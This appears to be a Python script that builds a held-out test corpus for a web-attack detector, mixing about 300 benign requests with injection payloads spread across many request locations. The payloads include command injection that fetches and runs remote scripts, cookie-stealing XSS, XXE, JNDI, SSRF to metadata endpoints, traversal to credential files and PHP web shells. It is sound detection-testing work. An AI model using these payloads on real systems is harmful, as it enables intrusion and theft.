"""A sixth, held-out corpus for `make eval-detection`, written without
reading the rules, the detectors, the documentation or the reports of
earlier runs, nor the payloads and texts of the other corpora: its first
run measures how the detection generalises to requests its authors never
saw. Its emphasis is on *where* a payload sits.

Attacks: 49 new payloads of the 13 classes, weighted towards the classes
WAFs often miss (LDAP filter injection; mail-header and response-header
CRLF injection; SSI; SSTI for Jinja2, Twig, FreeMarker, Velocity, ERB and
Thymeleaf/SpEL; NoSQL operator injection; XXE), with two or three each of
SQLi, XSS, command injection, path traversal, SSRF, JNDI and PHP. There
are 21 placements:

  query            a query-string value
  query_name       a query-string parameter *name*
  path_segment     a segment in the middle of the path (/api/v1/<p>/items)
  form             an urlencoded form field
  json             a top-level JSON value
  json_key         a JSON object key
  json_nested      a JSON value three objects deep
  xml_text         the text of an XML element
  xml_attr         an XML attribute value
  multipart        a multipart/form-data field
  multipart_filename  the filename of a multipart file part
  header_xff, header_x_real_ip, header_referer, header_origin,
  header_x_api_version, header_x_original_url, header_x_custom_filter,
  header_accept_language, header_from, header_authorization
                   the value of that header (Authorization: Bearer <p>)

Each payload goes to 12 of them, dealt from a per-class shuffle so that
every class reaches every placement at least once, and each (payload,
placement) is sent twice: `plain` and one of `url`, `base64` or
`double_url` (what the application sees after the placement's ordinary
decoding, as in generate.py). In `plain`, NoSQL operator objects are sent
as structure: a JSON object in JSON bodies (operator keys at the top level
for json_key), `field[$op]=` names in query strings, forms and multipart
fields; XXE payloads in xml_text and xml_attr put their DOCTYPE in the
prolog and the entity reference in the element text or attribute. Header
values cannot carry CR or LF; those go as %0D and %0A (generate.py's
header_safe), as the multipart filename's quotes and line breaks go as
%22, %0D, %0A the way browsers send them.

Benign: about 300 requests, one per written text or generated token, of
the kinds an external WAF benchmark sends: searches and contact messages
whose prose holds SQL and shell words, names with apostrophes and
accents, e-mail addresses with plus signs and phone numbers, messages in
other languages, Markdown notes, base64 images and PDFs in JSON, JWTs,
long cookies, UUIDs and ISO dates, redirect URLs as values, product SKUs,
CSV imports, nested JSON API bodies, SOAP/RSS/Atom XML, multipart uploads
with awkward filenames, JSON:API-style bracketed query names, JSON keys
that are sentences, path slugs, and benign values in the ten headers above.

Every payload and text was written for this project. Tokens, ids, cookies
and boundaries come from a fixed seed; the output is deterministic.

Usage: sixth_corpus.py OUT_FILE
"""
import base64
import json
import random
import re
import sys
import urllib.parse
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import generate as g  # noqa: E402

SEED = 67
PER_PAYLOAD = 12
ALT_ENCODINGS = ["url", "base64", "url", "base64", "double_url"]

# ---------------------------------------------------------------- attacks

ATTACKS = {
    "ldap": [
        "jdoe)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example)(uid=*))",
        "*)(&(objectCategory=person)(userPassword=*)",
        "helpdesk)(!(pwdAccountLockedTime=*))(|(sn=",
        "*)(|(mail=*@*)(telephoneNumber=*))(&(cn=",
        "admin*)(description=*pass*)",
    ],
    "crlf": [
        "reader@example.net\r\nBcc: harvest@mailer.attacker.example\r\nX-Priority: 1",
        "Order question\r\nCc: all-staff@shop.example\r\n\r\nYou have won a voucher, reply with your card number",
        "/account\r\nSet-Cookie: session=fixated-4711; Path=/; HttpOnly",
        "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>hijacked</h1>",
        "/login\nLocation: https://evil.example/phish\n",
    ],
    "ssi": [
        '<!--#exec cmd="id;uname -a" -->',
        '<!--#include file="../../../conf/httpd.conf"-->',
        '<!--#echo var="DOCUMENT_ROOT"--><!--#printenv -->',
        '<!--#config timefmt="%s" --><!--#exec cgi="/cgi-bin/status.sh" -->',
    ],
    "ssti": [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ ['cat /etc/hostname']|filter('system') }}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("uname -a")}',
        '#set($rt=$x.class.forName("java.lang.Runtime"))#set($p=$rt.getRuntime().exec("id"))$p.waitFor()',
        "<%= IO.popen('cat /etc/passwd').read %>",
        "__${T(java.lang.Runtime).getRuntime().exec('nslookup tpl.oast.example')}__::.x",
    ],
    "nosql": [
        '{"$ne": "x-not-a-password"}',
        '{"$regex": "^adm.*", "$options": "si"}',
        '{"$where": "function() { sleep(2500); return true; }"}',
        '{"$gt": ""}',
        "1'; return this.role == 'admin' || '1'=='1",
    ],
    "xxe": [
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE invoice [<!ENTITY ref SYSTEM "file:///etc/hostname">]>'
        '<invoice><number>&ref;</number></invoice>',
        '<!DOCTYPE data [<!ENTITY % dtd SYSTEM "http://oob.attacker.example/collect.dtd"> %dtd; %send;]><data>ping</data>',
        '<?xml version="1.0"?><!DOCTYPE cfg SYSTEM "https://dtd.attacker.example/cfg.dtd"><cfg><v>&leak;</v></cfg>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/app/.env">]><r>&x;</r>',
    ],
    "sqli": [
        "7') AND (SELECT 4711 FROM (SELECT SLEEP(4))q) AND ('a'='a",
        "x' UNION ALL SELECT username||':'||password_hash,NULL FROM app_users--",
        "42; DECLARE @c varchar(64); SET @c='whoami'; EXEC master..xp_cmdshell @c;--",
    ],
    "xss": [
        "<svg/onload=fetch('//x.oast.example/c?'+document.cookie)>",
        "'\"><details open ontoggle=import('//cdn.attacker.example/k.js')>",
        "<a href=\"jav&#x61;script:top['al'+'ert'](origin)\">click</a>",
    ],
    "cmdi": [
        ";curl -fsS http://203.0.113.9/i.sh|sh #",
        "$(nslookup $(whoami).cmd.oast.example)",
        '& powershell -NoP -W Hidden -c "iwr http://198.51.100.7/a.ps1 | iex" &',
    ],
    "path_traversal": [
        "....//....//....//etc/shadow",
        "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
        "static/../../../../root/.ssh/id_rsa",
    ],
    "ssrf": [
        "http://169.254.169.254/computeMetadata/v1/?recursive=true",
        "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron%0D%0A",
        "http://0177.0.0.1:8080/actuator/env",
    ],
    "jndi": [
        "${jndi:ldap://198.51.100.23:1389/o=tomcat,cn=exploit}",
        "${${lower:j}${::-n}d${upper:i}:${lower:r}mi://oast.example:1099/obj}",
    ],
    "php": [
        "php://filter/read=convert.base64-encode/resource=../config/database.php",
        'O:10:"LogRotator":2:{s:4:"path";s:20:"/var/www/html/up.php";s:6:"header";s:30:"<?php passthru($_GET[\'x\']); ?>";}',
        "<?=`$_GET[0]`?>",
    ],
}

# The field a NoSQL operator object is aimed at ("" = a top-level operator).
NOSQL_FIELD = {
    '{"$ne": "x-not-a-password"}': "password",
    '{"$regex": "^adm.*", "$options": "si"}': "username",
    '{"$where": "function() { sleep(2500); return true; }"}': "",
    '{"$gt": ""}': "password",
}

# The parameter or field name an application would take each class from.
CLASS_PARAM = {"sqli": "id", "xss": "q", "path_traversal": "file", "cmdi": "host", "ldap": "user", "crlf": "next",
               "ssi": "message", "ssti": "name", "nosql": "filter", "xxe": "data", "jndi": "q", "php": "page",
               "ssrf": "url"}

HEADER_PLACEMENTS = {
    "header_xff": "X-Forwarded-For",
    "header_x_real_ip": "X-Real-IP",
    "header_referer": "Referer",
    "header_origin": "Origin",
    "header_x_api_version": "X-Api-Version",
    "header_x_original_url": "X-Original-URL",
    "header_x_custom_filter": "X-Custom-Filter",
    "header_accept_language": "Accept-Language",
    "header_from": "From",
    "header_authorization": "Authorization",
}
PLACEMENTS = ["query", "query_name", "path_segment", "form", "json", "json_key", "json_nested", "xml_text",
              "xml_attr", "multipart", "multipart_filename", *HEADER_PLACEMENTS]

PATH_SHAPES = ["/api/v1/{}/items", "/shop/categories/{}/products", "/users/{}/profile", "/reports/{}/export.csv"]


def set_header(h, name, value):
    """`h` with header `name` set to `value` (replacing any of that name)."""
    return [x for x in h if x[0].lower() != name.lower()] + [[name, value]]


def without(h, *names):
    names = {n.lower() for n in names}
    return [x for x in h if x[0].lower() not in names]


def boundary(rng):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "----WebKitFormBoundary" + "".join(rng.choice(alphabet) for _ in range(16))


def multipart(rng, uri, h, parts):
    """A multipart POST; parts are (name, value) or (name, value, filename, content_type)."""
    b = boundary(rng)
    body = ""
    for p in parts:
        if len(p) == 2:
            body += f"--{b}\r\nContent-Disposition: form-data; name=\"{p[0]}\"\r\n\r\n{p[1]}\r\n"
        else:
            name, value, filename, ctype = p
            disp = f"form-data; name=\"{name}\""
            if filename is not None:
                disp += f"; filename=\"{filename}\""
            body += f"--{b}\r\nContent-Disposition: {disp}\r\nContent-Type: {ctype}\r\n\r\n{value}\r\n"
    body += f"--{b}--\r\n"
    return g.request("POST", uri, h + [["Content-Type", f"multipart/form-data; boundary={b}"]], body)


def browser_filename(name: str) -> str:
    """How browsers escape a filename in Content-Disposition."""
    return name.replace("\r", "%0D").replace("\n", "%0A").replace('"', "%22")


def qs_pairs(prefix, v):
    """A structure as bracketed query names: password[$ne]=..., x[$in][0]=..."""
    if isinstance(v, dict):
        for k, x in v.items():
            yield from qs_pairs(f"{prefix}[{k}]" if prefix else k, x)
    elif isinstance(v, list):
        for i, x in enumerate(v):
            yield from qs_pairs(f"{prefix}[{i}]", x)
    elif v is None:
        yield prefix, ""
    elif isinstance(v, bool):
        yield prefix, "true" if v else "false"
    else:
        yield prefix, str(v)


def qs(pairs, safe_name="[]$"):
    return "&".join(f"{urllib.parse.quote(k, safe=safe_name)}={urllib.parse.quote(v, safe='')}" for k, v in pairs)


def split_xxe(payload):
    """(doctype, root name, first general entity referenced after it or None)."""
    start = payload.index("<!DOCTYPE")
    first_gt = payload.index(">", start)
    end = payload.index("]>", start) + 2 if "[" in payload[start:first_gt] else first_gt + 1
    name = re.match(r"<!DOCTYPE\s+([\w:.-]+)", payload[start:]).group(1)
    refs = re.findall(r"&(\w+);", payload[end:])
    return payload[start:end], name, (refs[0] if refs else None)


def xml_attr_escape(s: str) -> str:
    return g.xml_escape(s).replace('"', "&quot;")


def place(rng, placement, payload, cls, enc):
    """One request carrying `payload` in `placement`, as the application sees it in `enc`."""
    value = g.encode(payload, enc)
    obj = json.loads(payload) if cls == "nosql" and enc == "plain" and payload.startswith("{") else None
    field = NOSQL_FIELD.get(payload, "") if obj is not None else CLASS_PARAM[cls]
    h = g.base_headers() + [["Accept-Encoding", "gzip, deflate, br"]]
    q = urllib.parse.quote

    if placement == "query":
        return g.request("GET", f"/api/v1/search?{CLASS_PARAM[cls]}={q(value, safe='')}&page=1&per_page=20", h)
    if placement == "query_name":
        if obj is not None:
            return g.request("GET", "/api/v1/users?role=customer&" + qs(qs_pairs(field, obj)), h)
        return g.request("GET", f"/api/v1/products?sort=price&{q(value, safe='')}=1", h)
    if placement == "path_segment":
        return g.request("GET", rng.choice(PATH_SHAPES).format(q(value, safe="")), h)
    if placement == "form":
        h = h + [["Content-Type", "application/x-www-form-urlencoded"]]
        if obj is not None:
            return g.request("POST", "/login", h, "username=admin&" + qs(qs_pairs(field, obj)))
        return g.request("POST", "/account/contact", h, g.form_body(
            [("name", "Jane Doe"), ("email", "jane@example.com"), (CLASS_PARAM[cls], value), ("send", "Send")]))
    if placement in ("json", "json_key", "json_nested"):
        h = h + [["Content-Type", "application/json"]]
        if placement == "json":
            if obj is not None:
                doc = {"username": "jane.doe", field or "filter": obj, "remember": True}
            else:
                doc = {"username": "jane.doe", field: value, "remember": True}
        elif placement == "json_key":
            if obj is not None:
                doc = {"username": "jane.doe", "password": "guess", **obj}
            else:
                doc = {"id": 88412, value: "1", "notify": False}
        else:
            inner = obj if obj is not None else value
            key = (field or "filter") if obj is not None else field
            doc = rng.choice([
                {"data": {"type": "session", "attributes": {"credentials": {key: inner}}}},
                {"order": {"shipping": {"address": {"line1": "12 Main St", key: inner}}}, "currency": "EUR"},
                {"settings": {"profile": {"display": {key: inner, "theme": "dark"}}}},
            ])
        return g.request("POST", "/api/v1/session" if obj is not None else "/api/v1/orders", h,
                         json.dumps(doc, ensure_ascii=False))
    if placement in ("xml_text", "xml_attr"):
        h = h + [["Content-Type", "application/xml; charset=utf-8"]]
        prolog = '<?xml version="1.0" encoding="UTF-8"?>\n'
        if cls == "xxe" and enc == "plain":
            doctype, root, ref = split_xxe(payload)
            use = f"&{ref};" if ref else "1"
            if placement == "xml_text":
                inner = f"<customer>Jane Doe</customer><note>{use}</note>"
            else:
                inner = f"<item sku=\"{use}\" qty=\"1\"/>"
            return g.request("POST", "/api/v1/orders/import", h, f"{prolog}{doctype}\n<{root}>{inner}</{root}>")
        if placement == "xml_text":
            body = rng.choice([
                f"{prolog}<order id=\"88412\"><customer>Jane Doe</customer><note>{g.xml_escape(value)}</note></order>",
                f"{prolog}<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body>"
                f"<UpdateProfile xmlns=\"urn:shop:profile\"><displayName>{g.xml_escape(value)}</displayName>"
                f"</UpdateProfile></soap:Body></soap:Envelope>",
            ])
        else:
            body = rng.choice([
                f"{prolog}<order id=\"88412\"><item sku=\"{xml_attr_escape(value)}\" qty=\"1\"/></order>",
                f"{prolog}<config><option name=\"theme\" value=\"{xml_attr_escape(value)}\"/></config>",
            ])
        return g.request("POST", "/api/v1/orders/import", h, body)
    if placement == "multipart":
        if obj is not None:
            parts = [("username", "admin")] + list(qs_pairs(field, obj))
        else:
            ctype = "text/xml" if cls == "xxe" else "text/plain; charset=utf-8"
            parts = [("title", "Quarterly report"), (CLASS_PARAM[cls], value, None, ctype), ("visibility", "team")]
        return multipart(rng, "/upload", h, parts)
    if placement == "multipart_filename":
        parts = [("title", "Scan"), ("attachment", "%PDF-1.4\n% scanned page\n", browser_filename(value),
                                      "application/octet-stream")]
        return multipart(rng, "/upload", h, parts)
    if placement in HEADER_PLACEMENTS:
        name = HEADER_PLACEMENTS[placement]
        v = g.header_safe(value)
        return g.request("GET", "/account/orders", set_header(h, name, "Bearer " + v if name == "Authorization" else v))
    raise ValueError(placement)


def attacks():
    rng = random.Random(SEED)
    for cls, payloads in ATTACKS.items():
        order = random.Random(f"{SEED}-{cls}").sample(PLACEMENTS, len(PLACEMENTS))
        slot = 0
        for i, payload in enumerate(payloads, 1):
            for _ in range(PER_PAYLOAD):
                pl = order[slot % len(order)]
                alt = ALT_ENCODINGS[slot % len(ALT_ENCODINGS)]
                slot += 1
                for enc in ("plain", alt):
                    r = place(rng, pl, payload, cls, enc)
                    yield {"id": f"sixth-{cls}-{i:02d}-{pl}-{enc}", "class": cls, "placement": pl, "encoding": enc,
                           **r}


# ---------------------------------------------------------------- benign

SEARCHES = [
    "please select the union option",
    "drop me a line stationery set",
    "union jack bunting 10m",
    "update my delivery address",
    "where do I insert the sim card",
    "order by phone or online",
    "delete account and all data",
    "cat carrier with wheels",
    "echo chamber podcast episode 12",
    "kill switch for e-bike",
    "bash birthday party ideas",
    "sleep mask and ear plugs",
    "null and void clause meaning",
    "exec chair ergonomic mesh",
    "table for 2 or 3 people",
    "curl cream for natural hair",
    "shell jacket waterproof men's",
    "alter ego t-shirt",
    "join the club sign up discount",
    "buy 1 get 1 free",
    "ping pong table outdoor",
    "script font for wedding invitations",
    "medical alert bracelet",
    "apple & orange juice 1L",
    "women's shoes size 6 1/2",
    "Löwenbräu glass 0,5 l",
    "from here to eternity dvd",
    "grep-proof cable ties (pack of 100)",
    "select comfort mattress topper",
    "drop shoulder sweater oversized",
    "where to buy a union suit pyjama",
    "having a blast party poppers",
    "order of the phoenix hardback",
    "insert coin arcade sign neon",
]

CONTACT = [
    "Hi, I'll cat-sit on Friday so please deliver before noon or leave it with the neighbour at no. 12.",
    "Drop me a line when the union jack bunting is back in stock; I want to select three packs.",
    "The echo chamber in your reviews section is real: everyone rates 5 stars and then returns the item.",
    "Could you update the order? I selected the wrong size (M instead of L) and I'd like to insert a gift note.",
    "Our team uses a shell script to export invoices every night; is there an API key I can use instead of logging in?",
    "I tried to delete my old address from the profile but it says 'cannot delete default address'. Where do I change the default?",
    "The table lamp arrived with a cracked base. Photos attached. Order #A-20931 - please advise whether to return it or keep it for a partial refund.",
    "Please don't ship to the office address; select the home one. Thanks, Siobhán",
    "I ran ping shop.example from work and it times out, but the site loads fine at home. Is there a firewall thing?",
    "We're planning a murder-mystery dinner: the victim 'dies' after the main course. Do you sell fake blood that washes out of table cloths?",
    "Is the 'Exec' desk chair the same as the 'Executive' one in the catalogue, or did the name get truncated?",
    "The sleep timer on the radio doesn't work; after 30 minutes it keeps playing. Tried a reset (hold power + vol-) with no luck.",
    "Drop-off points near Cork? The map only shows Dublin and Galway.",
    "Can I union two orders into one shipment? Both are going to the same address.",
    "I was charged twice: once on 03/06 and again on 04/06. Reference numbers 88412 and 88413.",
    "Love the new 'null' colourway, matte black with no logo. Will there be a white version?",
    "Where's the 'from' field when sending a gift card? I'd like it to say 'from Nana & Grandad'.",
    "Please remove (not just hide) my review from 2022; I have changed my mind about the kettle.",
    "My cat sat on the keyboard and ordered 14 tins of tuna; can you cancel 13 of them?",
    "Tried the password reset link but it says the token has expired < 5 minutes after I got it.",
    "Could you add a 'select all' checkbox to the wishlist? Deleting items one by one is tedious.",
    "The assembly guide says 'insert bolt A into hole C' but there is no hole C on my frame.",
    "Re: invoice 2024/117, the VAT line reads 0.00 but should be 23%.",
    "Our shop runs a 'bash' every Friday (that's what we call the staff party) and we'd like a bulk order of cups.",
    "I'm 50% sure the tracking page is broken: it says 'delivered' & 'out for delivery' at the same time.",
    "Between you and me, the 'exec summary' of your T&Cs is longer than the T&Cs.",
    "Do you deliver to Co. Kerry? The postcode field won't accept 'V92 X2Y3'.",
]

NAMES = ["Seán O'Brien", "Lucia D'Angelo", "Inés Nuñez-Ruiz", "Mary-Kate O'Neill-Brennan", "Jürgen Groß",
         "Nguyễn Thị Minh Khai", "Zoë D'Souza", "Björk Guðmundsdóttir", "Łukasz Wróbel", "Ólafur Þórsson",
         "François L'Heureux", "Amélie de la Tour d'Auvergne", "Dmitri Ivanov-Sokolov", "Kwame Mensah Jr.",
         "Anne-Marie O'Connor", 'J. R. "Bob" Dobbs']

EMAILS = ["seamus.obrien+orders@example.ie", "lucia.d'angelo@example.it", "ines+newsletter@example.es",
          "first.last+tag.2024@sub.example.co.uk", "o'connor.am@example.com", "team+alerts@status.example.org",
          "x@example.io", "user.name+filter-shop@example.com", "jürgen@bücher.example", "kwame_mensah@example.gh",
          "info@d-angelo-ristorante.example", "support+ticket-88412@shop.example"]

PHONES = ["+353 87 123 4567", "(021) 490 1234", "+49 30 1234567-89", "+1 (415) 555-0132 x204", "+33 6 12 34 56 78",
          "0044 20 7946 0123", "+81-3-1234-5678", "+233 24 123 4567", "555.010.5309", "+91 98765 43210"]

I18N = [
    ("de", "Bitte wählen Sie die Option „Union“ aus und löschen Sie den alten Eintrag nicht."),
    ("fr", "Je voudrais sélectionner l'option « livraison express » ; pouvez-vous mettre à jour ma commande ?"),
    ("es", "¿Podrían actualizar mi dirección? Me mudé a la calle O'Donnell 12, 3.º izq."),
    ("it", "Ciao! L'ordine è arrivato, ma manca il cavo. Potete inviarlo o devo aprire un reso?"),
    ("pt", "Olá, gostaria de trocar o tamanho: pedi 38 e preciso do 39. Obrigada!"),
    ("nl", "Kunnen jullie de bestelling annuleren? Ik heb per ongeluk twee keer op 'bestellen' gedrukt."),
    ("pl", "Dzień dobry, czy mogę zmienić adres dostawy na paczkomat WAW-123?"),
    ("cs", "Dobrý den, zásilka dorazila poškozená. Přikládám fotografie."),
    ("sv", "Hej! Finns jackan i storlek XL? Jag hittar den inte i rullgardinsmenyn."),
    ("fi", "Tilaukseni on ollut matkalla jo kaksi viikkoa. Voisitteko tarkistaa seurantakoodin?"),
    ("tr", "Merhaba, siparişimi iptal etmek istiyorum; ödeme iki kez çekildi."),
    ("el", "Γεια σας, μπορώ να αλλάξω τη διεύθυνση αποστολής;"),
    ("ru", "Здравствуйте! Выберите, пожалуйста, другой способ доставки — курьер не приехал."),
    ("uk", "Дякую за швидку доставку! Чи можна замовити ще два таких самих?"),
    ("ar", "مرحباً، أود تحديث عنوان الشحن الخاص بي. شكراً لكم."),
    ("he", "שלום, ההזמנה שלי עדיין לא הגיעה. אפשר לבדוק?"),
    ("hi", "नमस्ते, मेरा ऑर्डर अभी तक नहीं आया है। कृपया जाँच करें।"),
    ("zh", "你好，我想把订单里的蓝色换成红色，可以吗？"),
    ("ja", "注文した商品のサイズを変更したいのですが、まだ間に合いますか？"),
    ("ko", "안녕하세요, 배송지를 변경하고 싶습니다. 가능할까요?"),
    ("vi", "Xin chào, tôi muốn đổi địa chỉ giao hàng sang Quận 3."),
    ("ga", "Dia dhuit, an féidir liom an t-ordú a chur ar ceal? Go raibh maith agat."),
    ("th", "สวัสดีครับ ผมต้องการยกเลิกคำสั่งซื้อ ขอบคุณครับ"),
]

MARKDOWN = [
    "## Standup 2024-06-03\n\n- [x] select vendor for the union signage\n- [ ] drop the old staging bucket (ask Priya first)\n- [ ] update the *returns* page copy",
    "# Packing list\n\n1. Cat food for whoever cat-sits\n2. Chargers (USB-C **and** Lightning)\n3. Passport > wallet > keys",
    "> Drop me a line when you're back.\n\nWill do. Also: the `echo` pedal is in the **left** drawer, not the right one.",
    "### Recipe notes\n\n*Shepherd's pie*, take two: less salt, more thyme. Bake at 200 °C for ~25 min; let it rest 5 min.",
    "**Meeting with D'Angelo & Co.**\n\n- they want to *join* the spring promo\n- budget: 5-10k\n- next step: send the deck by Thu",
    "Reading list\n\n- _The Union of Crowns_ (ch. 3-5)\n- [An essay on select committees](https://example.org/essays/select-committees)\n- Nuñez-Ruiz, *Echoes*",
    "## Bug triage\n\n| id | title | status |\n|----|-------|--------|\n| 412 | Cart total off by 0.01 | open |\n| 415 | Wrong flag on /ie/ | fixed |",
    "Garden to-do:\n\n* cut back the rosemary\n* insert new stakes for the beans\n* kill the bindweed (again)",
    "# Release notes draft\n\nThe export now lets you select columns, and the date filter accepts `2024-06-01..2024-06-30`.",
    "Note to self: O'Brien's party is a *bash*, not a dinner; bring the speaker & the good playlist.",
]

PDF_NAMES = ["invoice-2024-117.pdf", "Q3 report (final) v2.pdf", "delivery_note_A-20931.pdf", "CV – Inés Nuñez-Ruiz.pdf",
             "terms & conditions (2024).pdf", "boarding-pass_DUB-LIS.pdf"]

OAUTH_URLS = [
    "https://app.example.com/oauth/callback?state=af0ifjsldkj&lang=en",
    "https://partner.example.org/sso/return?tenant=acme&next=%2Fdashboard",
    "http://localhost:3000/auth/callback",
    "https://shop.example/checkout/complete?order=A-20931&utm_source=email",
    "com.example.shopapp://oauth2redirect",
    "https://www.example.co.uk/account?tab=orders&sort=date_desc",
    "https://docs.example.dev/guide/getting-started#install",
    "https://calendar.example.com/event?id=8f14e45f&when=2024-06-01T09:00:00Z",
    "https://auth.example.net/realms/shop/protocol/openid-connect/auth?client_id=web&response_type=code",
    "https://maps.example.com/?q=53.3498,-6.2603&z=14",
]

SKUS = ["TS-1042/BLK/M", "SKU-00-4471-XL", "A/B-TEST-KIT-2", "HD-2024-06/EU", "CAB-USB-C/C-1M", "12-345-678/9",
        "ISBN 978-3-16-148410-0", "MUG_11oz-WHT", "KB-US/INTL-101", '3/4" BSP-ELBOW', "M8x25-DIN912-A2",
        "FW-SS24/07-LILAC", "PRT#4471-B", "LEGO 10294-1"]

CSVS = [
    "sku,name,qty,price\nTS-1042/BLK/M,\"Tee, black (M)\",12,19.99\nMUG_11oz-WHT,Mug 11oz white,40,7.50",
    "email,first_name,last_name,opt_in\nseamus.obrien+orders@example.ie,Seán,O'Brien,yes\nines@example.es,Inés,Nuñez-Ruiz,no",
    "date;amount;description\n2024-06-01;-12,50;Coffee & cake\n2024-06-02;1.200,00;Salary (June)",
    "\"id\",\"question\",\"answer\"\n\"1\",\"How do I select a size?\",\"Use the drop-down, then 'Add to cart'.\"",
    "order_id,status,updated_at\nA-20931,shipped,2024-06-03T10:41:22Z\nA-20932,cancelled,2024-06-03T11:02:09Z",
    "name,role,notes\nD'Angelo,admin,\"drop me a line before Friday\"\nO'Connor,editor,\"union rep; echo the memo\"",
    "postcode,town,county\nV92 X2Y3,Tralee,Kerry\nT12 AB34,Cork,Cork\nD02 XY45,Dublin 2,Dublin",
    "product,rating,comment\nKettle,4,\"Boils fast; the lid's a bit stiff\"\nToaster,2,\"Burns one side < the other\"",
]

JSON_API = [
    {"order": {"customer": {"name": "Lucia D'Angelo", "email": "lucia.d'angelo@example.it"},
               "shipping": {"address": {"line1": "Via Roma 12", "city": "Bologna", "postcode": "40121", "country": "IT"},
                            "method": "express"},
               "items": [{"sku": "TS-1042/BLK/M", "qty": 2}, {"sku": "MUG_11oz-WHT", "qty": 1}]},
     "coupon": None},
    {"type": "payment_intent.succeeded", "data": {"object": {"id": "pi_3PfA2bL9x", "amount": 4599, "currency": "eur",
                                                             "metadata": {"order": "A-20931", "channel": "web"}}}},
    {"filter": {"and": [{"field": "status", "op": "eq", "value": "open"},
                        {"or": [{"field": "priority", "op": "eq", "value": "high"},
                                {"field": "assignee", "op": "eq", "value": "me"}]}]},
     "sort": [{"field": "created_at", "direction": "desc"}], "page": {"size": 50}},
    {"profile": {"display_name": "Mary-Kate", "bio": "Union organiser, amateur baker, drops everything for a good book.",
                 "links": {"site": "https://mk.example.ie", "social": ["https://social.example/@mk"]}},
     "preferences": {"newsletter": True, "language": "en-IE"}},
    {"survey": {"id": 17, "answers": [{"q": "What made you select us?", "a": "A friend said 'just order from them'."},
                                      {"q": "Anything to improve?", "a": "Delete the pop-ups, please!"}]}},
    {"cart": {"lines": [{"sku": "KB-US/INTL-101", "qty": 1, "options": {"layout": "US-Intl", "switches": "brown"}}],
              "gift": {"wrap": True, "message": "Happy birthday, you old shell-collector! x"}}},
    {"event": "page_view", "properties": {"path": "/products/4711", "referrer": "https://www.google.com/",
                                          "screen": {"w": 1440, "h": 900}, "ab": {"checkout": "B"}}},
    {"ticket": {"subject": "Echo on calls", "body": "There is an echo when I call support from the app.",
                "meta": {"app": {"version": "5.12.0", "platform": "ios"}, "network": "wifi"}}},
    {"schedule": {"timezone": "Europe/Dublin", "rules": [{"days": ["mon", "wed", "fri"], "from": "09:00",
                                                          "to": "17:30"}], "exceptions": ["2024-12-25", "2024-12-26"]}},
    {"address_book": [{"label": "Home", "name": "Inés Nuñez-Ruiz", "line1": "C/ de Pau Claris, 97, 4º 2ª",
                       "city": "Barcelona"}, {"label": "Work", "name": "Inés Nuñez-Ruiz", "line1": "Av. Diagonal 640",
                                              "city": "Barcelona"}]},
]

XML_BODIES = [
    ("text/xml; charset=utf-8", "urn:shop:orders/GetOrderStatus",
     '<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
     '<soap:Header><auth:Token xmlns:auth="urn:shop:auth">c2hvcC1wYXJ0bmVyLTQ3MTE</auth:Token></soap:Header>'
     '<soap:Body><GetOrderStatus xmlns="urn:shop:orders"><OrderId>A-20931</OrderId></GetOrderStatus></soap:Body>'
     '</soap:Envelope>'),
    ("application/rss+xml", None,
     '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>Shop news</title>'
     '<link>https://shop.example/news</link><description>Offers &amp; updates</description><item>'
     '<title>Select your summer bundle</title><link>https://shop.example/news/summer?utm_source=rss</link>'
     '<pubDate>Sat, 01 Jun 2024 09:00:00 GMT</pubDate><guid isPermaLink="false">news-2024-06-01</guid></item>'
     '</channel></rss>'),
    ("application/atom+xml", None,
     '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>Changelog</title>'
     '<id>urn:uuid:2b8a5c8e-1f0d-4b7e-9e57-7f4c2a1d9b30</id><updated>2024-06-03T10:41:22Z</updated>'
     '<entry><title>Drop-down menus now remember your choice</title><id>tag:shop.example,2024:cl-88</id>'
     '<updated>2024-06-03T10:41:22Z</updated><summary type="text">Small fix; no action needed.</summary></entry></feed>'),
    ("application/xml", None,
     '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
     '<url><loc>https://shop.example/products/4711?colour=navy&amp;size=M</loc><lastmod>2024-06-01</lastmod>'
     '<changefreq>weekly</changefreq><priority>0.8</priority></url></urlset>'),
    ("application/xml", None,
     '<?xml version="1.0" encoding="UTF-8"?>\n<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">'
     '<ID>2024/117</ID><IssueDate>2024-06-01</IssueDate><AccountingCustomerParty><Party><PartyName>'
     '<Name>O\'Brien &amp; Daughters Ltd.</Name></PartyName></Party></AccountingCustomerParty>'
     '<LegalMonetaryTotal><PayableAmount currencyID="EUR">1230.00</PayableAmount></LegalMonetaryTotal></Invoice>'),
    ("text/xml; charset=utf-8", "urn:shop:profile/UpdateProfile",
     '<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
     '<soap:Body><UpdateProfile xmlns="urn:shop:profile"><DisplayName>Zoë D\'Souza</DisplayName>'
     '<Bio>I select union-made goods where I can.</Bio></UpdateProfile></soap:Body></soap:Envelope>'),
    ("application/vnd.google-earth.kml+xml", None,
     '<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark>'
     '<name>Drop-off point: Tralee</name><description>Open Mon-Sat, 09:00-18:00</description>'
     '<Point><coordinates>-9.7026,52.2713,0</coordinates></Point></Placemark></kml>'),
    ("application/xml", None,
